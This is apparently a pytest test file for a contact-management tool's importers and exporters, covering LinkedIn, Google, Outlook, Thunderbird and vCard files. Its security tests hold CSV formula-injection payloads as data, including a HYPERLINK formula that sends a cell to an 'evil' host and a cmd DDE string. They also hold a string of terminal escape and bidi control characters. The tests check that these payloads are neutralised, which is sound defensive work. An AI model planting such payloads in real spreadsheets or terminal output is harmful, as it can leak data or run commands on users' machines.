"""Issue 10's CSV and LinkedIn problems (5, 6, 10) and issue 11's import/export parts."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest

from board.errors import ImportFileError
from board.exporters import export_data
from board.importers import import_file, read_import
from board.store import Store
from tests.helpers import by_name, person, run

DATA = Path(__file__).resolve().parent / "data"


def test_5_linkedin_2018_export_with_times_and_member_urns(store: Store):
    summary = import_file(store, "linkedin", DATA / "linkedin/Connections-2018.csv")
    assert sorted(summary.added) == ["Claire Dubois", "Kwame Mensah", "Rahul Mehta"]
    people = by_name(store)
    assert people["Rahul Mehta"].created_at.date() == date(2018, 1, 8)
    assert people["Rahul Mehta"].emails == ["rahul.mehta@infra.example"]
    assert people["Claire Dubois"].emails == []  # urn:li:member:… is not an e-mail
    assert people["Kwame Mensah"].created_at.date() == date(2015, 3, 30)


def test_5_linkedin_saved_again_by_excel(store: Store):
    summary = import_file(store, "linkedin", DATA / "linkedin/Connections-excel-resave.csv")
    assert sorted(summary.added) == ["Björn Sæther", "Lucía Fernández", "Sofia Lindqvist"]
    assert by_name(store)["Björn Sæther"].created_at.date() == date(2026, 2, 6)
    assert by_name(store)["Lucía Fernández"].created_at.date() == date(2016, 11, 28)


def test_5_an_excel_save_with_semicolons(store: Store, tmp_path: Path):
    path = tmp_path / "Connections.csv"
    path.write_text("First Name;Last Name;URL;Email Address;Company;Position;Connected On\n"
                    "Ana;Lima;https://www.linkedin.com/in/ana;;Lima, Lda;CFO;6-Feb-26\n")
    summary = import_file(store, "linkedin", path)
    assert summary.added == ["Ana Lima"] and by_name(store)["Ana Lima"].company == "Lima, Lda"
    assert "(LinkedIn connections, semicolon-separated)" in summary.describe()[0]


def test_6_google_csv_both_layouts(store: Store):
    import_file(store, "csv", DATA / "google/contacts-google-csv-2024.csv")
    priya = by_name(store)["Priya Sharma"]
    assert priya.emails == ["priya.sharma@acme.example", "p.sharma@acme.example", "priya@home.example"]
    assert priya.phones == ["+91 98765 43210", "+91 98765 43211", "022 2345 6789"]
    assert (priya.company, priya.title) == ("Acme Trading, Ltd.", "Head of Buying, APAC")
    assert priya.tags == ["suppliers"]
    import_file(store, "csv", DATA / "google/contacts-google-csv-legacy.csv")
    dana = by_name(store)["Dana Reyes"]
    assert (dana.company, dana.title) == ("Reyes & Sons, Inc.", "Owner")
    assert dana.tags == ["2013 k soccer", "friends"]  # "* myContacts ::: …": labels, not Google's group


def test_6_outlook_title_is_the_honorific(store: Store):
    import_file(store, "csv", DATA / "outlook/outlook-contacts.csv")
    margaret = by_name(store)["Margaret Okonkwo"]
    assert margaret.title == "Chief of Cardiology, North Campus"
    assert margaret.emails == ["m.okonkwo@stjude.example", "maggie@home.example"]
    assert margaret.phones == ["+1 (312) 555-0170", "+1 312 555 0171"]
    assert margaret.company == "St. Jude Clinic"


def test_6_thunderbird_csv_comma_semicolon_and_tab(store: Store):
    for rel in ("thunderbird/basic_csv_addressbook.csv", "thunderbird/csv_semicolon.csv"):
        summary = import_file(store, "csv", DATA / rel)
        assert summary.changed or summary.unchanged
    assert by_name(store)["John Doe"].emails == ["john@doe.invalid"]
    summary = import_file(store, "csv", DATA / "thunderbird/thunderbird-tab.tsv")
    assert "tab-separated" in summary.describe()[0]
    noor = by_name(store)["Noor Haddad"]
    assert noor.emails == ["noor@haddad.example", "noor.h@mail.example"]
    assert (noor.company, noor.title) == ("Daily Star", "Editor, Arabic desk")


def test_6_a_trailing_empty_field_never_refuses(store: Store, tmp_path: Path):
    path = tmp_path / "trailing.csv"
    path.write_text("name,company\nAna,Acme,\nBo,Beta,,\n")
    assert sorted(import_file(store, "csv", path).added) == ["Ana", "Bo"]


@pytest.mark.parametrize(
    ("rel", "kind", "label"),
    [
        ("linkedin/Connections-2018.csv", "linkedin", "LinkedIn connections"),
        ("linkedin/Connections-excel-resave.csv", "linkedin", "LinkedIn connections"),
        ("apple/macos-contacts-export.vcf", "vcard", "vCard"),
        ("google/contacts-google-csv-2024.csv", "csv", "CSV"),
        ("outlook/outlook-contacts.csv", "csv", "CSV"),
        ("thunderbird/thunderbird-tab.tsv", "csv", "CSV"),
    ],
)
def test_10_the_cli_detects_the_kind_and_says_so(capsys, tmp_path: Path, rel: str, kind: str, label: str):
    code, out, err = run(capsys, "--data", tmp_path / "d", "import", DATA / rel, "--dry-run")
    assert (code, err) == (0, "")
    assert out.startswith(f"Dry run of {Path(rel).name} ({label}, detected")
    code, out2, _ = run(capsys, "--data", tmp_path / "d", "import", kind, DATA / rel, "--dry-run")
    assert code == 0 and "detected" not in out2  # the explicit kind still works


def test_10_an_unknown_file_asks_for_the_kind(capsys, tmp_path: Path):
    path = tmp_path / "notes.txt"
    path.write_text("just some words\n")
    code, out, err = run(capsys, "--data", tmp_path / "d", "import", path)
    assert code == 1 and out == ""
    assert err.startswith(f"error: {path}: cannot tell what kind of file this is")


# --- issue 11


def _seed(store: Store, **fields: object) -> None:
    at = store.clock()
    with store.transaction("seed", backup=False) as txn:
        txn.put_contact(person(at=at, **fields))


@pytest.mark.parametrize(
    "hostile", ['=HYPERLINK("http://evil/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
                "-2+3", "'=already quoted"],
)
def test_csv_export_neutralises_formulas_and_import_undoes_it(store: Store, tmp_path: Path, hostile: str):
    _seed(store, name=hostile, company=hostile, notes=hostile, phones=["+1 555 0100"])
    payload = export_data(store, "csv")
    rows = list(csv.reader(io.StringIO(payload.decode(), newline="")))
    assert rows[1][0] == "'" + hostile and rows[1][1] == "'" + hostile
    assert rows[1][4] == "+1 555 0100"  # a plain number stays a number
    out = tmp_path / "out.csv"
    out.write_bytes(payload)
    fresh = Store(tmp_path / "fresh", clock=store.clock)
    import_file(fresh, "csv", out)
    (back,) = fresh.contacts()
    assert (back.name, back.company, back.notes, back.phones) == (hostile, hostile, hostile, ["+1 555 0100"])


@pytest.mark.slow
def test_a_million_column_header_prints_a_short_summary(store: Store, tmp_path: Path):
    path = tmp_path / "wide.csv"
    path.write_text("name," + ",".join(f"col{i}" for i in range(1_000_000)) + "\nAna\n")
    summary = import_file(store, "csv", path, dry_run=True)
    text = "\n".join(summary.describe())
    assert len(text) < 2000 and "… and 999988 more" in text


CONTROLS = "\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b]0;title\x07\x1b[2J\x9b31m\u202eevil\u2066"


@pytest.mark.parametrize("kind", ["csv", "linkedin", "vcard", "invitations"])
def test_importers_strip_control_characters_from_every_field(store: Store, tmp_path: Path, kind: str):
    bad = f"Zed{CONTROLS}"
    files = {
        "csv": ("x.csv", f'name,company,title,notes,email\n"{bad}","{bad}","{bad}","a{CONTROLS}\nb",z@x.example\n'),
        "linkedin": ("c.csv", f"First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
                              f"{bad},Q,,,{bad},{bad},24 Aug 2023\n"),
        "vcard": ("x.vcf", f"BEGIN:VCARD\nVERSION:3.0\nFN:{bad}\nORG:{bad}\nTITLE:{bad}\n"
                           f"NOTE:a{CONTROLS}\\nb\nEND:VCARD\n"),
        "invitations": ("i.csv", f'From,To,Sent At,Message,Direction\n"{bad}",Me,"11/2/24, 6:45 PM","hi{CONTROLS}",INCOMING\n'),
    }
    name, content = files[kind]
    path = tmp_path / name
    path.write_text(content)
    summary = import_file(store, kind, path)
    (person,) = store.contacts()
    texts = [person.name, person.company, person.title, person.notes, *summary.describe()]
    texts += [i.summary for i in store.interactions(person.id)]
    for value in texts:
        assert not any(ord(ch) < 0x20 and ch not in "\n\t" or 0x7F <= ord(ch) < 0xA0 for ch in value), value
        assert not any(0x202A <= ord(ch) <= 0x202E or 0x2066 <= ord(ch) <= 0x2069 for ch in value)
    assert "\n" not in person.name and person.name.startswith("Zed")


def test_a_connection_date_in_year_9999_is_clamped_and_said(store: Store, tmp_path: Path):
    path = tmp_path / "Connections.csv"
    path.write_text("First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
                    "Ana,Lima,,,,,31 Dec 9999\nBo,Old,,,,,01 Jan 1850\n")
    summary = import_file(store, "linkedin", path)
    people = by_name(store)
    assert people["Ana Lima"].created_at <= store.clock()
    assert people["Bo Old"].created_at.year == 1900
    text = "\n".join(summary.describe())
    assert "note: a connection date in the future, read as the day of the import (line 2)" in text
    assert "note: a connection date before 1900, read as 1900-01-01 (line 3)" in text


def test_an_unreadable_date_is_still_refused_with_its_line(tmp_path: Path):
    path = tmp_path / "Connections.csv"
    path.write_text("First Name,Last Name,URL,Email Address,Company,Position,Connected On\nAna,Lima,,,,,soon\n")
    with pytest.raises(ImportFileError, match="line 2: cannot read the date 'soon' in Connected On"):
        read_import("linkedin", path)
